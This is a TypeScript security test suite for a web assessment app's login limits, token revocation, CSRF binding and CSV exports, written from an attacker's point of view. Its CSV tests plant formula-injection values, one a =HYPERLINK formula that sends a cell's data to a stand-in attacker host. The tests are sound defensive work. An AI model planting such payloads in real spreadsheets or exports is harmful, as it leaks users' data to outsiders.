import { parse } from 'csv-parse/sync';
import type { Response } from 'supertest';
import request from 'supertest';
import { loadConfig } from '../../src/config/app-config.js';
import { AuditEntry } from '../../src/platform/audit/audit-entry.entity.js';
import { PasswordService } from '../../src/platform/auth/password.service.js';
import { cookiesOf } from '../helpers/browser.js';
import {
  bootTestApp,
  csrfOf,
  engine,
  signInAgent,
  TEST_PASSWORD,
  TestApp,
} from '../helpers/test-app.js';

/**
 * Item 7 and 9 of issue 20, tried from the attacker's side: a stranger who wants to lock
 * the owner out, to learn which NIPs exist, to spray one password over many accounts, to
 * keep using a token the owner signed out of, to ride a CSRF token across sessions, or to
 * plant a formula in a coordinator's spreadsheet.
 *
 * The app runs with the production login limits (the helpers' defaults are set high for
 * the rest of the suite). The app trusts the proxy's X-Forwarded-For, so each test speaks
 * from its own addresses and counts start afresh.
 */
const production = loadConfig({
  NODE_ENV: 'test',
  JWT_SECRET: 'only-read-for-its-login-limit-defaults-0123456789',
  DATABASE_URL: 'sqlite::memory:',
});
const LIMITS = {
  LOGIN_RATE_LIMIT_IP: String(production.loginRateLimitPerIp),
  LOGIN_RATE_LIMIT_ACCOUNT: String(production.loginRateLimitPerAccount),
  LOGIN_FAILURES_ACCOUNT_IP: String(production.loginFailuresPerAccountIp),
  LOGIN_FAILURES_IP: String(production.loginFailuresPerIp),
  LOGIN_FAILURES_ACCOUNT: String(production.loginFailuresPerAccount),
};
let nextAddress = 0;
/** A fresh client address (10.x.y.z) for each caller a test plays. */
const address = () => {
  nextAddress += 1;
  return `10.${(nextAddress >> 16) & 255}.${(nextAddress >> 8) & 255}.${nextAddress & 255}`;
};

describe(`cheater: accounts and exports (${engine})`, () => {
  let t: TestApp;
  let admin: string;
  beforeAll(async () => {
    t = await bootTestApp({ env: LIMITS });
    admin = await t.tokenFor(await t.createUser('admin'));
  });
  afterAll(() => t.close());

  const login = (username: string, password: string, from: string) =>
    t.http.post('/api/v1/auth/login').set('x-forwarded-for', from).send({ username, password });
  /** What a client can compare between two answers: everything but the request id. */
  const answer = (res: Response) => {
    const { requestId: _ignored, ...body } = res.body as Record<string, unknown>;
    return {
      status: res.status,
      retryAfter: res.headers['retry-after'] === undefined ? 'none' : 'set',
      // Seconds to wait differ by when each window began, not by who asked.
      body: JSON.stringify(body).replace(/\d+/g, 'N'),
    };
  };

  describe('lockout', () => {
    it('a stranger guessing from one address does not lock the owner out: only that address waits', async () => {
      const owner = await t.createUser('asn', { nip: '199003152015032777' });
      const stranger = address();
      for (let i = 0; i < production.loginFailuresPerAccountIp; i++)
        await login(owner.nip!, `tebakan-${i}`, stranger).expect(401);
      // The stranger's address now waits, even with the right password (or they could probe).
      const held = await login(owner.nip!, TEST_PASSWORD, stranger).expect(429);
      expect(Number(held.headers['retry-after'])).toBeGreaterThanOrEqual(1);
      // The owner, on their own device, signs in at once, by NIP or by e-mail.
      const home = address();
      await login(owner.nip!, TEST_PASSWORD, home).expect(200);
      await login(owner.email!, TEST_PASSWORD, home).expect(200);
      // The stranger keeps trying; the owner is still not held back.
      for (let i = 0; i < 5; i++) await login(owner.nip!, 'lagi', stranger).expect(429);
      await login(owner.nip!, TEST_PASSWORD, address()).expect(200);
    });

    it('a guess spread over many addresses stops at the account ceiling, parallel guesses included, which does not hold back the owner’s usual address', async () => {
      const owner = await t.createUser('admin');
      const office = address();
      await login(owner.email!, TEST_PASSWORD, office).expect(200);
      const ceiling = production.loginFailuresPerAccount;
      const statuses: number[] = [];
      // Twenty at a time: each attempt is counted before its password is checked, so a
      // batch that straddles the ceiling cannot slip through it.
      for (let sent = 0; sent < ceiling + 20; sent += 20) {
        const batch = Array.from({ length: 20 }, (_, i) =>
          login(owner.email!, `tebakan-${sent + i}`, address()),
        );
        statuses.push(...(await Promise.all(batch)).map((res) => res.status));
      }
      expect(statuses.filter((s) => s === 401).length).toBe(ceiling);
      expect(statuses.filter((s) => s === 429).length).toBe(20);
      // From a new address even the right password now waits: the guess has stopped.
      await login(owner.email!, TEST_PASSWORD, address()).expect(429);
      // The owner at the office still gets in.
      await login(owner.email!, TEST_PASSWORD, office).expect(200);
      // Staff hear of it once, not once per refused guess.
      const heard = await t.dataSource
        .getRepository(AuditEntry)
        .findBy({ action: 'auth.throttled', entityId: owner.id });
      expect(heard.map((e) => e.detail)).toEqual([{ by: 'account', username: owner.email }]);
    }, 120_000);

    it('spraying one password over many usernames from one address gets 429, and does not lock those accounts', async () => {
      const real = await Promise.all(Array.from({ length: 5 }, () => t.createUser('asn')));
      const usernames = [
        ...real.map((u) => u.email!),
        ...Array.from({ length: 35 }, (_, i) => `tidak.ada.${i}@uji.example`),
      ];
      const sprayer = address();
      const statuses: number[] = [];
      for (const username of usernames)
        statuses.push((await login(username, 'Sidimpuan2026!', sprayer)).status);
      const first429 = statuses.indexOf(429);
      expect(first429).toBe(production.loginFailuresPerIp);
      expect(statuses.slice(first429).every((s) => s === 429)).toBe(true);
      expect(statuses.slice(0, first429).every((s) => s === 401)).toBe(true);
      // The sprayed accounts' owners sign in from their own addresses.
      for (const user of real) await login(user.email!, TEST_PASSWORD, address()).expect(200);
    });
  });

  describe('who exists', () => {
    it('an unknown username and a known one get the same answers, when wrong and when throttled', async () => {
      const known = await t.createUser('asn', { nip: '198807122010011777' });
      const unknown = '198807122010011778';
      const fromKnown = address();
      const fromUnknown = address();
      const wrong = production.loginFailuresPerAccountIp;
      expect(wrong).toBeGreaterThan(1);
      for (let i = 0; i <= wrong; i++) {
        const a = await login(known.nip!, `salah-${i}`, fromKnown);
        const b = await login(unknown, `salah-${i}`, fromUnknown);
        expect(answer(b)).toEqual(answer(a));
        expect(a.status).toBe(i < wrong ? 401 : 429);
      }
    });

    it('takes about as long for an unknown username as for a known one, a temporary password included', async () => {
      const scrypt = await t.createUser('asn');
      // An imported account's temporary password has a fast hash (it is random, not guessable).
      const temporary = await t.createUser('asn', {
        passwordHash: t.app.get(PasswordService).hashGenerated('Sementara-Acak-123456'),
        mustChangePassword: true,
      });
      const median = async (username: string) => {
        const times: number[] = [];
        for (let i = 0; i < 7; i++) {
          const from = address();
          const start = process.hrtime.bigint();
          await login(username, `salah-${i}`, from).expect(401);
          times.push(Number(process.hrtime.bigint() - start) / 1e6);
        }
        return times.sort((x, y) => x - y)[3];
      };
      const known = await median(scrypt.email!);
      const nobody = await median('tidak.pernah.ada@uji.example');
      const temp = await median(temporary.email!);
      // The password hash runs in every case: a fast answer would name the accounts.
      for (const time of [nobody, temp]) {
        expect(time).toBeGreaterThan(known / 3);
        expect(time).toBeLessThan(known * 3);
      }
    });
  });

  describe('tokens end with the session', () => {
    const pairFor = async (username: string) =>
      (await login(username, TEST_PASSWORD, address()).expect(200)).body as {
        accessToken: string;
        refreshToken: string;
      };
    const me = (token: string) => t.as(token).get('/api/v1/me');

    it('after logout the old access token gets 401 at once, and its refresh token fails', async () => {
      const user = await t.createUser('asn');
      const pair = await pairFor(user.email!);
      await me(pair.accessToken).expect(200);
      await t.http
        .post('/api/v1/auth/logout')
        .send({ refreshToken: pair.refreshToken })
        .expect(204);
      await me(pair.accessToken).expect(401);
      await t.http
        .post('/api/v1/auth/refresh')
        .send({ refreshToken: pair.refreshToken })
        .expect(401);
      // A new sign-in works as before.
      await me((await pairFor(user.email!)).accessToken).expect(200);
    });

    it('after the owner changes the password, every older token gets 401', async () => {
      const user = await t.createUser('asn');
      const stolen = await pairFor(user.email!);
      const own = await pairFor(user.email!);
      await t
        .as(own.accessToken)
        .post('/api/v1/me/password')
        .send({ currentPassword: TEST_PASSWORD, newPassword: 'Salak-Manis-Sidimpuan-7' })
        .expect(204);
      await me(stolen.accessToken).expect(401);
      await me(own.accessToken).expect(401);
      await t.http
        .post('/api/v1/auth/refresh')
        .send({ refreshToken: stolen.refreshToken })
        .expect(401);
    });

    it('after an admin resets the password, deactivates the account or changes its role or sectors, older tokens get 401', async () => {
      const reset = await t.createUser('asn');
      const resetToken = (await pairFor(reset.email!)).accessToken;
      await t
        .as(admin)
        .post(`/api/v1/users/${reset.id}/reset-password`)
        .send({})
        .expect((res) => expect(res.status).toBeLessThan(300));
      await me(resetToken).expect(401);

      const gone = await t.createUser('asn');
      const goneToken = await pairFor(gone.email!);
      await t.as(admin).post(`/api/v1/users/${gone.id}/deactivate`).expect(200);
      await me(goneToken.accessToken).expect(401);
      await t.as(admin).post(`/api/v1/users/${gone.id}/reactivate`).expect(200);
      // Reactivation does not bring the old session back.
      await me(goneToken.accessToken).expect(401);
      await t.http
        .post('/api/v1/auth/refresh')
        .send({ refreshToken: goneToken.refreshToken })
        .expect(401);

      const demoted = await t.createUser('coordinator', { sectors: ['health', 'education'] });
      const sectorsToken = (await pairFor(demoted.email!)).accessToken;
      // A change that grants or takes no access leaves the session alone.
      await t
        .as(admin)
        .patch(`/api/v1/users/${demoted.id}`)
        .send({ name: 'Koordinator Baru' })
        .expect(200);
      await me(sectorsToken).expect(200);
      await t
        .as(admin)
        .patch(`/api/v1/users/${demoted.id}`)
        .send({ sectors: ['health'] })
        .expect(200);
      await me(sectorsToken).expect(401);
      const roleToken = (await pairFor(demoted.email!)).accessToken;
      await t.as(admin).patch(`/api/v1/users/${demoted.id}`).send({ role: 'asn' }).expect(200);
      await me(roleToken).expect(401);
    });

    it('the page session cookie ends the same way, and its refresh cookie does not bring it back', async () => {
      const user = await t.createUser('coordinator', { sectors: ['health'] });
      const { agent } = await signInAgent(t, user.email!);
      await agent.get('/beranda').expect(200);
      await t.as(admin).patch(`/api/v1/users/${user.id}`).send({ role: 'asn' }).expect(200);
      const after = await agent.get('/beranda').expect(303);
      expect(after.headers.location).toMatch(/^\/masuk/);
    });
  });

  describe('CSRF tokens belong to a session', () => {
    const cookie = (res: Response, name: string) =>
      cookiesOf(res).find((c) => c.name === name)?.value;
    /** Posts a harmless page form with exactly these cookies. */
    const post = (cookies: Record<string, string | undefined>, token: string) =>
      request(t.app.getHttpServer())
        .post('/bahasa')
        .set(
          'cookie',
          Object.entries(cookies)
            .filter(([, v]) => v)
            .map(([k, v]) => `${k}=${v}`)
            .join('; '),
        )
        .type('form')
        .send({ _csrf: token, lang: 'id', next: '/beranda' });

    it('a token taken before login is refused after login, and the secret is renewed', async () => {
      const user = await t.createUser('asn');
      const page = await t.http.get('/masuk').expect(200);
      const secret = cookie(page, 'sa_csrf');
      const before = csrfOf(page.text);
      expect(secret).toBeTruthy();
      // Good before login…
      await post({ sa_csrf: secret }, before).expect(303);
      const signedIn = await t.http
        .post('/masuk')
        .set('cookie', `sa_csrf=${secret}`)
        .type('form')
        .send({ _csrf: before, username: user.email, password: TEST_PASSWORD })
        .expect(303);
      const access = cookie(signedIn, 'sa_access');
      expect(access).toBeTruthy();
      // …the login drops the old secret…
      expect(cookie(signedIn, 'sa_csrf')).toBe('');
      // …and even kept (planted by an attacker), the old token no longer passes.
      await post({ sa_csrf: secret, sa_access: access }, before).expect(403);
      // A page of the new session gives a token that does.
      const home = await request(t.app.getHttpServer())
        .get('/beranda')
        .set('cookie', `sa_access=${access}`)
        .expect(200);
      const fresh = cookie(home, 'sa_csrf');
      expect(fresh).toBeTruthy();
      expect(fresh).not.toBe(secret);
      await post({ sa_csrf: fresh, sa_access: access }, csrfOf(home.text)).expect(303);
    });

    it('a token of user A’s session is refused in user B’s session, even with A’s secret cookie', async () => {
      const [a, b] = [await t.createUser('asn'), await t.createUser('asn')];
      const { agent: agentA, res: loginA } = await signInAgent(t, a.email!);
      const { res: loginB } = await signInAgent(t, b.email!);
      const pageA = await agentA.get('/profil').expect(200);
      const secretA = cookie(pageA, 'sa_csrf');
      expect(secretA).toBeTruthy();
      const tokenA = csrfOf(pageA.text);
      await post({ sa_csrf: secretA, sa_access: cookie(loginA, 'sa_access') }, tokenA).expect(303);
      await post({ sa_csrf: secretA, sa_access: cookie(loginB, 'sa_access') }, tokenA).expect(403);
      // Nor does it pass without a session (once A's session has ended, say).
      await post({ sa_csrf: secretA }, tokenA).expect(403);
    });
  });

  describe('CSV exports hold no formula', () => {
    const HYPERLINK = '=HYPERLINK("http://penyerang.example/?d="&B2,"Lihat nilai")';
    const cells = (text: string) => parse(text.replace(/^\uFEFF/, '')) as string[][];
    const noFormula = (table: string[][]) =>
      expect(table.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c))).toEqual([]);

    it('hasil-ujian.csv writes a candidate named =HYPERLINK(…) as text', async () => {
      const coordinator = await t.tokenFor(
        await t.createUser('coordinator', { sectors: ['health'] }),
      );
      const bankId = (
        await t
          .as(coordinator)
          .post('/api/v1/question-banks')
          .send({ name: 'Bank CSV', sector: 'health' })
          .expect(201)
      ).body.id as string;
      await t
        .as(coordinator)
        .post(`/api/v1/question-banks/${bankId}/import?format=gift`)
        .set('content-type', 'text/plain')
        .send('::A:: Cuci tangan sebelum kontak pasien. {T}\n\n::B:: Lima momen? {=Ya ~Tidak}')
        .expect(200);
      const assessmentId = (
        await t
          .as(coordinator)
          .post('/api/v1/assessments')
          .send({
            title: 'Ujian CSV',
            sector: 'health',
            timeLimitMinutes: 10,
            passPercent: 50,
            maxAttempts: 1,
            shuffle: false,
            sections: [{ bankId, count: 2 }],
          })
          .expect(201)
      ).body.id as string;
      await t
        .as(coordinator)
        .post(`/api/v1/assessments/${assessmentId}/publish`)
        .expect((res) => expect(res.status).toBeLessThan(300));
      const candidate = await t.createUser('asn', { name: HYPERLINK });
      await t
        .as(await t.tokenFor(candidate))
        .post(`/api/v1/assessments/${assessmentId}/attempts`)
        .send({})
        .expect(201);

      const csv = await t
        .as(coordinator)
        .get(`/api/v1/assessments/${assessmentId}/attempts?format=csv`)
        .expect(200);
      expect(csv.headers['content-disposition']).toContain('hasil-ujian.csv');
      const table = cells(csv.text);
      expect(table[1][0]).toBe(`'${HYPERLINK}`);
      noFormula(table);
    });

    it('the gap report per position and per unit writes =, +, - and @ names as text; numbers stay numbers', async () => {
      const code = `POS-${nextAddress}`;
      await t
        .as(admin)
        .post('/api/v1/org-units')
        .send({ code: `OPD-${nextAddress}`, name: '+62 Dinas Formula' })
        .expect(201);
      await t
        .as(admin)
        .post('/api/v1/positions')
        .send({ code, name: HYPERLINK, kind: 'fungsional', sector: 'health' })
        .expect(201);
      await t
        .as(admin)
        .put(`/api/v1/positions/${code}/standard`)
        .send({ items: [{ competencyCode: 'M.1', level: 2 }] })
        .expect(200);
      const person = await t.createUser('asn', { name: '@SUM(1+9)*cmd' });
      await t
        .as(admin)
        .patch(`/api/v1/users/${person.id}`)
        .send({ positionCode: code, orgUnitCode: `OPD-${nextAddress}` })
        .expect(200);

      for (const by of ['position', 'org-unit']) {
        const csv = await t
          .as(admin)
          .get('/api/v1/reports/gaps')
          .query({ by, format: 'csv' })
          .expect(200);
        const table = cells(csv.text);
        noFormula(table);
        const name = by === 'position' ? HYPERLINK : '+62 Dinas Formula';
        expect(table.map((row) => row[1])).toContain(`'${name}`);
      }
      const standards = await t
        .as(admin)
        .get('/api/v1/positions/standards/export')
        .query({ format: 'csv', position: code })
        .expect(200);
      const rows = cells(standards.text);
      expect(rows[1][1]).toBe(`'${HYPERLINK}`);
      expect(rows[1][4]).toBe('2');
    });
  });
});
